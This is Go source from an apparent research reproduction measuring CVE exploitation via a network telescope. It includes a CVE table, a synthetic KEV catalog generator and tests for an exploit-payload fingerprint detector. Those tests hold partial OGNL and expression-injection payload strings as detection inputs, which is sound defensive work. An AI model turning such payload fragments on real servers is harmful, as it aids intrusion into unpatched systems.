		row("2021-39226", "2021-10-05", 3, "Grafana authentication bypass attempt", "Grafana", "CWE-287", 7.3, "336d 23h", "329d 0h", "330d 5h", 55, false),
		row("2021-41773", "2021-10-05", 969, "Apache HTTP Server httpd directory traversal attempt", "Apache", "CWE-22", 7.5, "2d 13h", "21d 0h", "1d 2h", 100, false),
		row("2021-27561", "2021-10-15", 724, "Yealink Device Management server side request forgery attempt", "Yealink", "CWE-918", 9.8, "-198d 11h", "-", "-220d 6h", 83, false),
		row("2021-20837", "2021-10-21", 2, "Movable Type CMS command injection attempt", "Six Apart", "CWE-78", 9.8, "47d 17h", "9d 0h", "93d 8h", 91, false),
		row("2021-40117", "2021-10-27", 19074, "Cisco ASA and FTD denial of service attempt", "Cisco", "CWE-400", 7.5, "1d 12h", "-", "355d 11h", 19, false),
		row("2021-41653", "2021-11-13", 354, "TP-Link TL-WR840N EU v5 command injection attempt", "TP-Link", "CWE-78", 9.8, "30d 21h", "-", "8d 18h", 84, false),
		row("2021-43798", "2021-12-07", 11, "Grafana getPluginAssets path traversal attempt", "Grafana", "CWE-22", 7.5, "3d 19h", "15d 0h", "2d 19h", 100, false),
		row("2021-44515", "2021-12-07", 2, "ManageEngine Desktop Central authentication bypass attempt", "Zoho", "CWE-287", 9.8, "35d 20h", "46d 0h", "212d 9h", 95, false),
		row("2021-20038", "2021-12-08", 4, "SonicWall SMA 100 remote unauthenticated buffer overflow attempt", "SonicWall", "CWE-787", 9.8, "188d 17h", "-", "65d 1h", 64, false),
		row("2021-44228", "2021-12-10", 6254, "Apache Log4j logging remote code execution attempt", "Apache", "CWE-917", 10.0, "0d 19h", "4d 0h", "0d 13h", 100, false),
		row("2021-45232", "2021-12-27", 2, "Apache APISIX Dashboard authentication bypass attempt", "Apache", "CWE-287", 9.8, "106d 19h", "-", "9d 17h", 74, false),
		row("2022-21796", "2022-01-28", 218, "TRUFFLEHUNTER TALOS-2022-1451 attack attempt", "Moxa", "CWE-787", 8.2, "-0d 7h", "-", "47d 16h", 61, true),
		row("2022-21199", "2022-01-28", 1, "TRUFFLEHUNTER TALOS-2022-1446 attack attempt", "Reolink", "CWE-330", 5.9, "-2d 11h", "-", "383d 19h", 68, true),
		row("2021-45382", "2022-02-17", 67, "D-Link router command injection attempt", "D-Link", "CWE-78", 9.8, "112d 14h", "-", "1d 5h", 87, false),
		row("2022-0543", "2022-02-18", 863, "Debian Redis Lua sandbox escape attempt", "Debian/Redis", "CWE-862", 10.0, "95d 21h", "40d 0h", "21d 20h", 100, false),
		row("2022-22947", "2022-03-03", 6, "Spring Cloud Gateway Spring Expression Language injection attempt", "VMware/Spring", "CWE-917", 10.0, "21d 12h", "150d 0h", "21d 21h", 100, false),
		row("2022-22963", "2022-03-31", 14, "Spring Cloud Function Spring Expression Language injection attempt", "VMware/Spring", "CWE-917", 9.8, "0d 14h", "1d 0h", "-1d 9h", 100, false),
		row("2022-22965", "2022-04-01", 107, "Java ClassLoader access attempt", "VMware/Spring", "CWE-94", 9.8, "-", "8d 0h", "-387d 14h", 100, false),
		row("2022-28219", "2022-04-05", 1, "Zoho ManageEngine ADAudit Plus XML external entity injection attempt", "Zoho", "CWE-611", 9.8, "92d 20h", "-", "138d 14h", 100, false),
		row("2022-22954", "2022-04-07", 859, "VMware Workspace ONE Access server side template injection attempt", "VMware", "CWE-94", 9.8, "42d 17h", "27d 0h", "10d 17h", 91, false),
		row("2022-29464", "2022-04-18", 5, "WSO2 multiple products directory traversal attempt", "WSO2", "CWE-22", 9.8, "9d 14h", "11d 1h", "19d 3h", 100, false),
		row("2022-0540", "2022-04-20", 1, "Atlassian Jira Seraph authentication bypass attempt", "Atlassian", "CWE-287", 9.8, "99d 13h", "-", "298d 7h", 94, false),
		row("2022-27925", "2022-04-21", 5, "Zimbra directory traversal remote code execution attempt", "Zimbra", "CWE-22", 7.2, "119d 15h", "-", "131d 6h", 100, false),
		row("2022-29499", "2022-04-26", 8, "MiVoice Connect command injection attempt", "Mitel", "CWE-20", 9.8, "70d 22h", "-", "61d 15h", 88, false),
		row("2022-1388", "2022-05-05", 501, "F5 iControl REST interface tm.util.bash invocation attempt", "F5", "CWE-306", 9.8, "-407d 11h", "8d 0h", "-410d 16h", 100, false),
		row("2022-28818", "2022-05-11", 7, "Adobe ColdFusion cross-site scripting attempt", "Adobe", "CWE-79", 6.1, "1d 13h", "-", "-299d 2h", 92, false),
		row("2022-30525", "2022-05-12", 136, "Zyxel Firewall command injection attempt", "Zyxel", "CWE-78", 9.8, "26d 14h", "3d 0h", "15d 17h", 100, false),
		row("2022-29583", "2022-05-13", 1, "NETGEAR ProSafe SSL VPN SQL injection attempt", "NETGEAR", "CWE-89", 9.8, "41d 14h", "-", "198d 17h", 91, false),
		row("2022-28938", "2022-05-18", 20, "Atlassian Confluence OGNL expression injection attempt", "Atlassian", "CWE-917", 9.8, "0d 23h", "2d 0h", "-444d 19h", 100, false),
		row("2022-26134", "2022-06-03", 50575, "Atlassian Confluence OGNL expression injection attempt", "Atlassian", "CWE-917", 8.8, "17d 14h", "52d 0h", "17d 16h", 100, false),
		row("2022-33891", "2022-07-18", 46, "Apache Spark command injection attempt", "Apache", "CWE-78", 9.8, "6d 14h", "11d 0h", "15d 7h", 100, false),
		row("2022-26138", "2022-07-20", 2, "Atlassian Confluence hardcoded credentials use attempt", "Atlassian", "CWE-798", 9.8, "45d 14h", "36d 0h", "65d 23h", 100, false),
		row("2022-35914", "2022-09-19", 6, "GLPI htmLawed php remote code execution attempt", "GLPI", "CWE-74", 8.8, "-0d 4h", "13d 0h", "89d 2h", 95, false),
		row("2022-41040", "2022-10-01", 2, "Microsoft Exchange Server remote code execution attempt", "Microsoft", "CWE-918", 9.8, "6d 17h", "10d 0h", "7d 15h", 100, false),
		row("2022-40684", "2022-10-08", 14, "Fortinet FortiOS and FortiProxy authentication bypass attempt", "Fortinet", "CWE-306", 9.8, "20d 14h", "26d 0h", "25d 23h", 100, false),
		row("2022-44877", "2023-01-05", 8, "CentOS Web Panel 7 unauthenticated command injection attempt", "Control Web Panel", "CWE-78", 9.8, "-", "-", "-", -1, false),
	}
}

// StudyCVEByID returns the study record for a CVE id ("YYYY-NNNN"), or nil.
func StudyCVEByID(id string) *StudyCVE {
	for _, c := range StudyCVEs() {
		if c.ID == id {
			cc := c
			return &cc
		}
	}
	return nil
}

// TotalStudyEvents sums the per-CVE event counts.
func TotalStudyEvents() int {
	n := 0
	for _, c := range StudyCVEs() {
		n += c.Events
	}
	return n
}

// StudyVendors returns the distinct vendor names across study CVEs.
func StudyVendors() []string {
	seen := map[string]bool{}
	var out []string
	for _, c := range StudyCVEs() {
		if !seen[c.Vendor] {
			seen[c.Vendor] = true
			out = append(out, c.Vendor)
		}
	}
	return out
}

// StudyCWEs returns the distinct CWE categories across study CVEs.
func StudyCWEs() []string {
	seen := map[string]bool{}
	var out []string
	for _, c := range StudyCVEs() {
		if !seen[c.CWE] {
			seen[c.CWE] = true
			out = append(out, c.CWE)
		}
	}
	return out
}
