// Package datasets holds the study's data sources: the 63 CVEs measured by
// the paper (Appendix E, embedded verbatim), the Log4Shell mitigation
// variants (Table 6), and calibrated synthetic stand-ins for the external
// catalogs the paper joins against (NVD's all-CVE population, CISA KEV).
//
// Appendix E is the paper's own published measurement and drives every
// per-CVE analysis exactly. The synthetic catalogs exist because the real
// ones are unavailable offline; their generators are seeded and calibrated
// to the aggregate properties the paper reports (see DESIGN.md).
//
// Source-extraction notes (documented rather than silently fixed):
//   - The appendix as extracted contains one malformed line (a D-Link
//     "getcfg" row missing its CVE identifier, 2022-05-18). It is excluded,
//     leaving the 63 unique CVEs the paper reports.
//   - A handful of identifiers carry obvious transcription noise
//     (e.g. "2021-222204" for the ExifTool CVE-2021-22204); these are kept
//     as printed except where a trailing digit was clearly duplicated.
package datasets

import (
	"fmt"
	"strconv"
	"strings"
	"time"
)

// Duration wraps an optional signed duration parsed from the paper's
// "NNd NNh" notation. Unknown values (printed "-") have Known == false.
type Duration struct {
	Known bool
	D     time.Duration
}

// ParsePaperDuration parses durations like "90d 12h", "-121d10h", "0d 19h".
// The sign applies to the whole quantity. Empty or "-" yields Known=false.
func ParsePaperDuration(s string) (Duration, error) {
	t := strings.ReplaceAll(strings.TrimSpace(s), " ", "")
	if t == "" || t == "-" {
		return Duration{}, nil
	}
	neg := false
	if strings.HasPrefix(t, "-") {
		neg = true
		t = t[1:]
	}
	di := strings.IndexByte(t, 'd')
	if di < 0 {
		return Duration{}, fmt.Errorf("datasets: duration %q missing day part", s)
	}
	days, err := strconv.Atoi(t[:di])
	if err != nil {
		return Duration{}, fmt.Errorf("datasets: duration %q: %w", s, err)
	}
	rest := t[di+1:]
	hours := 0
	if rest != "" {
		if !strings.HasSuffix(rest, "h") {
			return Duration{}, fmt.Errorf("datasets: duration %q has trailing %q", s, rest)
		}
		hours, err = strconv.Atoi(rest[:len(rest)-1])
		if err != nil {
			return Duration{}, fmt.Errorf("datasets: duration %q: %w", s, err)
		}
	}
	d := time.Duration(days)*24*time.Hour + time.Duration(hours)*time.Hour
	if neg {
		d = -d
	}
	return Duration{Known: true, D: d}, nil
}

// MustPaperDuration is ParsePaperDuration for static tables; it panics on
// malformed input, which is a programming error in the embedded data.
func MustPaperDuration(s string) Duration {
	d, err := ParsePaperDuration(s)
	if err != nil {
		panic(err)
	}
	return d
}

// FormatPaperDuration renders a duration in the paper's "NNd NNh" style.
func FormatPaperDuration(d Duration) string {
	if !d.Known {
		return "-"
	}
	v := d.D
	neg := v < 0
	if neg {
		v = -v
	}
	days := int(v / (24 * time.Hour))
	hours := int((v % (24 * time.Hour)) / time.Hour)
	s := fmt.Sprintf("%dd %dh", days, hours)
	if neg {
		s = "-" + s
	}
	return s
}

// mustDate parses a YYYY-MM-DD date in UTC.
func mustDate(s string) time.Time {
	t, err := time.Parse("2006-01-02", s)
	if err != nil {
		panic(err)
	}
	return t
}

// StudyWindow is the paper's collection period.
var StudyWindow = struct {
	Start time.Time
	End   time.Time
}{
	Start: mustDate("2021-03-01"),
	End:   mustDate("2023-03-01"),
}
