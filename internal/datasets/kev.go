package datasets

import (
	"math"
	"math/rand"
	"sort"
	"time"
)

// KEVEntry is one Known Exploited Vulnerabilities catalog record.
type KEVEntry struct {
	// ID is the CVE identifier ("YYYY-NNNN").
	ID string `json:"id"`
	// Published is the CVE's NVD publication date.
	Published time.Time `json:"published"`
	// DateAdded is when CISA added the CVE to the KEV catalog, the paper's
	// proxy for known exploitation in the KEV comparison.
	DateAdded time.Time `json:"dateAdded"`
	// CVSS is the base score (used for Figure 2).
	CVSS float64 `json:"cvss"`
}

// KEVStart is when CISA began the KEV catalog (November 2021, partway
// through the study).
var KEVStart = mustDate("2021-11-03")

// KEVConfig tunes the synthetic KEV catalog generator.
type KEVConfig struct {
	// Seed drives the deterministic generator.
	Seed int64
	// N is the number of catalog CVEs published during the study window
	// (the paper filters KEV to 424 such CVEs).
	N int
	// OverlapCount is how many of the 63 study CVEs also appear in KEV
	// (the paper observed 44, i.e. 70%).
	OverlapCount int
	// DscopeFirstCount is how many overlap CVEs the telescope observed
	// before their KEV addition (the paper observed 26 of 44, 59%).
	DscopeFirstCount int
}

func (c KEVConfig) withDefaults() KEVConfig {
	if c.N == 0 {
		c.N = 424
	}
	if c.OverlapCount == 0 {
		c.OverlapCount = 44
	}
	if c.DscopeFirstCount == 0 {
		c.DscopeFirstCount = 26
	}
	return c
}

// KEVCatalog is the generated catalog plus the join against study CVEs.
type KEVCatalog struct {
	Entries []KEVEntry
	// Overlap maps study CVE ids present in KEV to their entries.
	Overlap map[string]KEVEntry
}

// GenerateKEV produces a deterministic synthetic KEV catalog calibrated to
// the paper's reported aggregates:
//
//   - 424 entries with publication dates inside the study window and
//     addition dates after the catalog's November 2021 start;
//   - an A−P distribution with ≈18% of entries exploited (added) before
//     publication, with shorter pre-publication leads than the telescope
//     observes (Figure 10 / Finding 16);
//   - a CVSS skew toward high impact, but weaker than the studied CVEs'
//     skew (Figure 2 / Finding 15);
//   - 44 of the 63 study CVEs present, of which 26 were telescope-observed
//     before KEV addition and 50% of those more than 30 days before
//     (Figure 11 / Finding 17).
func GenerateKEV(cfg KEVConfig) KEVCatalog {
	cfg = cfg.withDefaults()
	rng := rand.New(rand.NewSource(cfg.Seed))
	cat := KEVCatalog{Overlap: map[string]KEVEntry{}}

	// Overlapping study CVEs first: deterministically pick the study CVEs
	// most likely to be widely reported (highest event counts first breaks
	// toward the big campaigns the paper's case studies name), excluding
	// those published too late for KEV processing inside the window.
	study := StudyCVEs()
	sort.SliceStable(study, func(i, j int) bool { return study[i].Events > study[j].Events })
	overlap := study
	if len(overlap) > cfg.OverlapCount {
		overlap = overlap[:cfg.OverlapCount]
	}
	// Order the overlap by first observed attack: CVEs the telescope saw
	// earliest are the ones it naturally beats manual reporting on, and
	// their first attacks may predate the KEV catalog itself (before which
	// no addition date is possible).
	firstAttack := func(c *StudyCVE) time.Time {
		if c.AMinusP.Known {
			return c.Published.Add(c.AMinusP.D)
		}
		return c.Published
	}
	sort.SliceStable(overlap, func(i, j int) bool {
		return firstAttack(&overlap[i]).Before(firstAttack(&overlap[j]))
	})
	for i, c := range overlap {
		fa := firstAttack(&c)
		var added time.Time
		if i < cfg.DscopeFirstCount {
			// Telescope-first: KEV lags the first observed attack. Half of
			// these lag by more than 30 days (Finding 17's headline).
			var lag time.Duration
			if i%2 == 0 {
				lag = 31*24*time.Hour + time.Duration(rng.Int63n(int64(200*24*time.Hour)))
			} else {
				lag = time.Duration(rng.Int63n(int64(30 * 24 * time.Hour)))
			}
			added = fa.Add(lag)
			if added.Before(KEVStart) {
				added = KEVStart.Add(time.Duration(rng.Int63n(int64(14 * 24 * time.Hour))))
			}
		} else {
			// KEV-first: manual reporting beat the telescope's vantage.
			// These CVEs have late first attacks, so a lead of up to 60
			// days still lands after the catalog's start.
			lead := time.Duration(rng.Int63n(int64(60*24*time.Hour))) + 24*time.Hour
			added = fa.Add(-lead)
			if added.Before(KEVStart) {
				added = KEVStart
			}
		}
		e := KEVEntry{ID: c.ID, Published: c.Published, DateAdded: added, CVSS: c.Impact}
		cat.Entries = append(cat.Entries, e)
		cat.Overlap[c.ID] = e
	}

	// Fill the rest of the catalog with non-study CVEs. Pre-publication
	// additions are only possible for CVEs published comfortably after the
	// catalog's start, so the pre-publication probability is conditioned
	// on that subset to keep the catalog-wide rate at the paper's 18%.
	window := StudyWindow.End.Sub(StudyWindow.Start)
	lateCutoff := KEVStart.Add(90 * 24 * time.Hour)
	lateFrac := float64(StudyWindow.End.Sub(lateCutoff)) / float64(window)
	prePubCond := 0.18 / lateFrac
	for i := len(cat.Entries); i < cfg.N; i++ {
		pub := StudyWindow.Start.Add(time.Duration(rng.Int63n(int64(window))))
		var added time.Time
		if pub.After(lateCutoff) && rng.Float64() < prePubCond {
			// Exploited before publication; KEV leads are shorter than the
			// telescope's long pre-publication observations.
			lead := time.Duration(math.Abs(rng.NormFloat64()) * float64(40*24*time.Hour))
			if max := pub.Sub(KEVStart); lead >= max {
				lead = time.Duration(rng.Int63n(int64(max)))
			}
			added = pub.Add(-lead)
		} else {
			// Post-publication: exponential-ish lag with a long tail.
			lag := time.Duration(rng.ExpFloat64() * float64(45*24*time.Hour))
			added = pub.Add(lag)
		}
		if added.Before(KEVStart) {
			added = KEVStart.Add(time.Duration(rng.Int63n(int64(120 * 24 * time.Hour))))
		}
		cat.Entries = append(cat.Entries, KEVEntry{
			ID:        pub.Format("2006") + "-" + itoa5(80000+i),
			Published: pub,
			DateAdded: added,
			CVSS:      kevImpact(rng),
		})
	}
	sort.Slice(cat.Entries, func(i, j int) bool { return cat.Entries[i].Published.Before(cat.Entries[j].Published) })
	return cat
}

// kevImpact draws a CVSS score skewed high, but less extreme than the
// studied CVEs (whose median is 9.8).
func kevImpact(rng *rand.Rand) float64 {
	buckets := []struct {
		score  float64
		weight float64
	}{
		{5.4, 0.04}, {6.1, 0.05}, {6.5, 0.05}, {7.2, 0.08}, {7.5, 0.12},
		{7.8, 0.15}, {8.1, 0.08}, {8.8, 0.18}, {9.1, 0.05}, {9.8, 0.17}, {10.0, 0.03},
	}
	var total float64
	for _, b := range buckets {
		total += b.weight
	}
	r := rng.Float64() * total
	for _, b := range buckets {
		if r < b.weight {
			return b.score
		}
		r -= b.weight
	}
	return 9.8
}

// AMinusPSamples returns, in days, the KEV catalog's addition-minus-
// publication distribution (Figure 10).
func (c KEVCatalog) AMinusPSamples() []float64 {
	out := make([]float64, 0, len(c.Entries))
	for _, e := range c.Entries {
		out = append(out, e.DateAdded.Sub(e.Published).Hours()/24)
	}
	return out
}

// ImpactSamples returns the catalog's CVSS scores (Figure 2).
func (c KEVCatalog) ImpactSamples() []float64 {
	out := make([]float64, 0, len(c.Entries))
	for _, e := range c.Entries {
		out = append(out, e.CVSS)
	}
	return out
}
