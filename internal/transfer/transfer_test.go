package transfer

import (
	"math/rand"
	"testing"

	"repro/internal/scanner"
)

func TestNormalize(t *testing.T) {
	got := string(normalize([]byte("GET /Api/123/456?x=9 HTTP/1.1")))
	want := "get /api/#/#?x=# http/#.#"
	if got != want {
		t.Errorf("normalize = %q, want %q", got, want)
	}
}

func TestJaccardBasics(t *testing.T) {
	a := NewFingerprint([]byte("the quick brown fox"))
	if got := Jaccard(a, a); got != 1 {
		t.Errorf("self similarity = %v", got)
	}
	b := NewFingerprint([]byte("zzzzzzzzzzzz"))
	if got := Jaccard(a, b); got != 0 {
		t.Errorf("disjoint similarity = %v", got)
	}
	if got := Jaccard(Fingerprint{}, Fingerprint{}); got != 0 {
		t.Errorf("empty similarity = %v", got)
	}
}

func TestJaccardSymmetric(t *testing.T) {
	a := NewFingerprint([]byte("GET /%24%7B(exec)%7D HTTP/1.1"))
	b := NewFingerprint([]byte("GET /%24%7B(calc)%7D HTTP/1.1"))
	if Jaccard(a, b) != Jaccard(b, a) {
		t.Error("Jaccard not symmetric")
	}
	if sim := Jaccard(a, b); sim < 0.5 {
		t.Errorf("similar payloads sim = %v, want high", sim)
	}
}

// Variants of the same exploit must cluster; different exploits must not.
func TestFamilyClustering(t *testing.T) {
	rng := rand.New(rand.NewSource(1))
	var ognl, hikvision *scanner.Exploit
	for i, ex := range scanner.Exploits() {
		switch ex.CVE {
		case "2022-26134":
			e := scanner.Exploits()[i]
			ognl = &e
		case "2021-36260":
			e := scanner.Exploits()[i]
			hikvision = &e
		}
	}
	if ognl == nil || hikvision == nil {
		t.Fatal("exploit definitions missing")
	}
	a := NewFingerprint(ognl.Craft(rng))
	b := NewFingerprint(ognl.Craft(rng))
	c := NewFingerprint(hikvision.Craft(rng))
	if sim := Jaccard(a, b); sim < 0.7 {
		t.Errorf("same-family similarity = %.2f, want high", sim)
	}
	if sim := Jaccard(a, c); sim > 0.45 {
		t.Errorf("cross-family similarity = %.2f, want low", sim)
	}
}

// The Finding 19 scenario: generic OGNL scanning hitting a non-Confluence
// port is recognized as the known OGNL exploit family on a novel domain.
func TestFinding19NovelDomain(t *testing.T) {
	rng := rand.New(rand.NewSource(2))
	var confluence scanner.Exploit
	for _, ex := range scanner.Exploits() {
		if ex.CVE == "2022-26134" {
			confluence = ex
		}
	}
	d := NewDetector()
	// Learn the Confluence OGNL family from its known on-port traffic.
	for i := 0; i < 5; i++ {
		d.Learn("CVE-2022-26134", confluence.Craft(rng), 8090)
	}

	// An OGNL payload sprayed at port 8080: same exploit structure, port
	// the family has never targeted.
	m, ok := d.Classify(confluence.Craft(rng), 8080)
	if !ok {
		t.Fatal("known payload not recognized")
	}
	if m.Family != "CVE-2022-26134" {
		t.Errorf("family = %s", m.Family)
	}
	if !m.NovelPort {
		t.Error("novel port not flagged")
	}
	// The same payload on the known port is not novel.
	m, ok = d.Classify(confluence.Craft(rng), 8090)
	if !ok || m.NovelPort {
		t.Errorf("on-port classification = %+v/%v", m, ok)
	}
}

func TestClassifyRejectsNoise(t *testing.T) {
	rng := rand.New(rand.NewSource(3))
	var confluence scanner.Exploit
	for _, ex := range scanner.Exploits() {
		if ex.CVE == "2022-26134" {
			confluence = ex
		}
	}
	d := NewDetector()
	d.Learn("CVE-2022-26134", confluence.Craft(rng), 8090)
	if _, ok := d.Classify([]byte("GET /robots.txt HTTP/1.1\r\nHost: x\r\n\r\n"), 8090); ok {
		t.Error("benign crawl classified as exploit")
	}
	if _, ok := d.Classify([]byte("SSH-2.0-Go\r\n"), 22); ok {
		t.Error("SSH banner classified as exploit")
	}
}

func TestScanReport(t *testing.T) {
	rng := rand.New(rand.NewSource(4))
	var confluence scanner.Exploit
	for _, ex := range scanner.Exploits() {
		if ex.CVE == "2022-26134" {
			confluence = ex
		}
	}
	d := NewDetector()
	for i := 0; i < 3; i++ {
		d.Learn("CVE-2022-26134", confluence.Craft(rng), 8090)
	}
	payloads := [][]byte{
		confluence.Craft(rng),                       // known port
		confluence.Craft(rng),                       // novel port
		[]byte("GET / HTTP/1.1\r\nHost: x\r\n\r\n"), // noise
	}
	rep := d.Scan(payloads, []uint16{8090, 443, 80})
	if rep.Sessions != 3 || rep.Matched != 2 {
		t.Errorf("report = %+v", rep)
	}
	if len(rep.NovelDomain) != 1 || rep.NovelDomain[0].Port != 443 {
		t.Errorf("novel domain = %+v", rep.NovelDomain)
	}
}

func TestFamilies(t *testing.T) {
	d := NewDetector()
	d.Learn("b", []byte("xxxx"), 1)
	d.Learn("a", []byte("yyyy"), 2)
	d.Learn("b", []byte("zzzz"), 3)
	fams := d.Families()
	if len(fams) != 2 || fams[0] != "a" || fams[1] != "b" {
		t.Errorf("families = %v", fams)
	}
}

// Log4Shell obfuscation variants are similar enough to cluster as one
// family at a moderate threshold — the arms-race payloads share the JNDI
// lookup skeleton.
func TestLog4ShellVariantsShareFamily(t *testing.T) {
	rng := rand.New(rand.NewSource(5))
	bps, err := scanner.Build(scanner.Config{Seed: 5, Scale: 500, Noise: 1})
	if err != nil {
		t.Fatal(err)
	}
	d := NewDetector()
	d.MatchThreshold = 0.35
	learned := 0
	var held [][]byte
	var heldPorts []uint16
	for _, bp := range bps {
		if bp.CVE != "2021-44228" {
			continue
		}
		if learned < 10 {
			d.Learn("CVE-2021-44228", bp.Payload, bp.DstPort)
			learned++
		} else if len(held) < 20 {
			held = append(held, bp.Payload)
			heldPorts = append(heldPorts, bp.DstPort)
		}
	}
	if learned == 0 || len(held) == 0 {
		t.Skip("not enough Log4Shell traffic at this scale")
	}
	rep := d.Scan(held, heldPorts)
	if float64(rep.Matched)/float64(rep.Sessions) < 0.5 {
		t.Errorf("held-out Log4Shell recognized %d/%d, want majority", rep.Matched, rep.Sessions)
	}
	_ = rng
}
