package transfer

import (
	"fmt"
	"math/rand"
	"sync"
	"testing"
	"time"

	"repro/internal/scanner"
)

func TestNormalize(t *testing.T) {
	got := string(normalize([]byte("GET /Api/123/456?x=9 HTTP/1.1")))
	want := "get /api/#/#?x=# http/#.#"
	if got != want {
		t.Errorf("normalize = %q, want %q", got, want)
	}
}

func TestJaccardBasics(t *testing.T) {
	a := NewFingerprint([]byte("the quick brown fox"))
	if got := Jaccard(a, a); got != 1 {
		t.Errorf("self similarity = %v", got)
	}
	b := NewFingerprint([]byte("zzzzzzzzzzzz"))
	if got := Jaccard(a, b); got != 0 {
		t.Errorf("disjoint similarity = %v", got)
	}
	if got := Jaccard(Fingerprint{}, Fingerprint{}); got != 0 {
		t.Errorf("empty similarity = %v", got)
	}
}

func TestJaccardSymmetric(t *testing.T) {
	a := NewFingerprint([]byte("GET /%24%7B(exec)%7D HTTP/1.1"))
	b := NewFingerprint([]byte("GET /%24%7B(calc)%7D HTTP/1.1"))
	if Jaccard(a, b) != Jaccard(b, a) {
		t.Error("Jaccard not symmetric")
	}
	if sim := Jaccard(a, b); sim < 0.5 {
		t.Errorf("similar payloads sim = %v, want high", sim)
	}
}

// Variants of the same exploit must cluster; different exploits must not.
func TestFamilyClustering(t *testing.T) {
	rng := rand.New(rand.NewSource(1))
	var ognl, hikvision *scanner.Exploit
	for i, ex := range scanner.Exploits() {
		switch ex.CVE {
		case "2022-26134":
			e := scanner.Exploits()[i]
			ognl = &e
		case "2021-36260":
			e := scanner.Exploits()[i]
			hikvision = &e
		}
	}
	if ognl == nil || hikvision == nil {
		t.Fatal("exploit definitions missing")
	}
	a := NewFingerprint(ognl.Craft(rng))
	b := NewFingerprint(ognl.Craft(rng))
	c := NewFingerprint(hikvision.Craft(rng))
	if sim := Jaccard(a, b); sim < 0.7 {
		t.Errorf("same-family similarity = %.2f, want high", sim)
	}
	if sim := Jaccard(a, c); sim > 0.45 {
		t.Errorf("cross-family similarity = %.2f, want low", sim)
	}
}

// The Finding 19 scenario: generic OGNL scanning hitting a non-Confluence
// port is recognized as the known OGNL exploit family on a novel domain.
func TestFinding19NovelDomain(t *testing.T) {
	rng := rand.New(rand.NewSource(2))
	var confluence scanner.Exploit
	for _, ex := range scanner.Exploits() {
		if ex.CVE == "2022-26134" {
			confluence = ex
		}
	}
	d := NewDetector()
	// Learn the Confluence OGNL family from its known on-port traffic.
	for i := 0; i < 5; i++ {
		d.Learn("CVE-2022-26134", confluence.Craft(rng), 8090)
	}

	// An OGNL payload sprayed at port 8080: same exploit structure, port
	// the family has never targeted.
	m, ok := d.Classify(confluence.Craft(rng), 8080)
	if !ok {
		t.Fatal("known payload not recognized")
	}
	if m.Family != "CVE-2022-26134" {
		t.Errorf("family = %s", m.Family)
	}
	if !m.NovelPort {
		t.Error("novel port not flagged")
	}
	// The same payload on the known port is not novel.
	m, ok = d.Classify(confluence.Craft(rng), 8090)
	if !ok || m.NovelPort {
		t.Errorf("on-port classification = %+v/%v", m, ok)
	}
}

func TestClassifyRejectsNoise(t *testing.T) {
	rng := rand.New(rand.NewSource(3))
	var confluence scanner.Exploit
	for _, ex := range scanner.Exploits() {
		if ex.CVE == "2022-26134" {
			confluence = ex
		}
	}
	d := NewDetector()
	d.Learn("CVE-2022-26134", confluence.Craft(rng), 8090)
	if _, ok := d.Classify([]byte("GET /robots.txt HTTP/1.1\r\nHost: x\r\n\r\n"), 8090); ok {
		t.Error("benign crawl classified as exploit")
	}
	if _, ok := d.Classify([]byte("SSH-2.0-Go\r\n"), 22); ok {
		t.Error("SSH banner classified as exploit")
	}
}

func TestScanReport(t *testing.T) {
	rng := rand.New(rand.NewSource(4))
	var confluence scanner.Exploit
	for _, ex := range scanner.Exploits() {
		if ex.CVE == "2022-26134" {
			confluence = ex
		}
	}
	d := NewDetector()
	for i := 0; i < 3; i++ {
		d.Learn("CVE-2022-26134", confluence.Craft(rng), 8090)
	}
	payloads := [][]byte{
		confluence.Craft(rng),                       // known port
		confluence.Craft(rng),                       // novel port
		[]byte("GET / HTTP/1.1\r\nHost: x\r\n\r\n"), // noise
	}
	rep := d.Scan(payloads, []uint16{8090, 443, 80})
	if rep.Sessions != 3 || rep.Matched != 2 {
		t.Errorf("report = %+v", rep)
	}
	if len(rep.NovelDomain) != 1 || rep.NovelDomain[0].Port != 443 {
		t.Errorf("novel domain = %+v", rep.NovelDomain)
	}
}

func TestFamilies(t *testing.T) {
	d := NewDetector()
	d.Learn("b", []byte("xxxx"), 1)
	d.Learn("a", []byte("yyyy"), 2)
	d.Learn("b", []byte("zzzz"), 3)
	fams := d.Families()
	if len(fams) != 2 || fams[0] != "a" || fams[1] != "b" {
		t.Errorf("families = %v", fams)
	}
}

// Log4Shell obfuscation variants are similar enough to cluster as one
// family at a moderate threshold — the arms-race payloads share the JNDI
// lookup skeleton.
func TestLog4ShellVariantsShareFamily(t *testing.T) {
	rng := rand.New(rand.NewSource(5))
	bps, err := scanner.Build(scanner.Config{Seed: 5, Scale: 500, Noise: 1})
	if err != nil {
		t.Fatal(err)
	}
	d := NewDetector()
	d.MatchThreshold = 0.35
	learned := 0
	var held [][]byte
	var heldPorts []uint16
	for _, bp := range bps {
		if bp.CVE != "2021-44228" {
			continue
		}
		if learned < 10 {
			d.Learn("CVE-2021-44228", bp.Payload, bp.DstPort)
			learned++
		} else if len(held) < 20 {
			held = append(held, bp.Payload)
			heldPorts = append(heldPorts, bp.DstPort)
		}
	}
	if learned == 0 || len(held) == 0 {
		t.Skip("not enough Log4Shell traffic at this scale")
	}
	rep := d.Scan(held, heldPorts)
	if float64(rep.Matched)/float64(rep.Sessions) < 0.5 {
		t.Errorf("held-out Log4Shell recognized %d/%d, want majority", rep.Matched, rep.Sessions)
	}
	_ = rng
}

// TestClassifyEdgeCases: degenerate payloads must classify cleanly (no
// match), never panic, and never divide by zero.
func TestClassifyEdgeCases(t *testing.T) {
	d := NewDetector()
	d.Learn("CVE-2022-26134", []byte("${(#a=@org.apache.commons.io.IOUtils@toString(...))}"), 8090)

	// Empty payload: no shingles, no match.
	if m, ok := d.Classify(nil, 8090); ok {
		t.Fatalf("empty payload matched %+v", m)
	}
	if m, ok := d.Classify([]byte{}, 8090); ok {
		t.Fatalf("zero-length payload matched %+v", m)
	}
	// Shorter than one shingle: fingerprint is empty, similarity undefined
	// but must come back as no-match, not NaN.
	if m, ok := d.Classify([]byte("${("), 8090); ok {
		t.Fatalf("sub-shingle payload matched %+v", m)
	}
	if fp := NewFingerprint([]byte("abc")); len(fp) != 0 {
		t.Fatalf("3-byte payload grew %d shingles", len(fp))
	}
	// Exactly one shingle long.
	if fp := NewFingerprint([]byte("abcd")); len(fp) != 1 {
		t.Fatalf("4-byte payload grew %d shingles", len(fp))
	}
	// A family learned from an empty payload must not match everything.
	d.Learn("empty-family", nil, 1)
	if m, ok := d.Classify([]byte("GET / HTTP/1.1\r\nHost: x\r\n\r\n"), 80); ok {
		t.Fatalf("empty-sample family matched %+v", m)
	}
}

// TestClassifyNearMissBelowThreshold: a payload sharing structure but
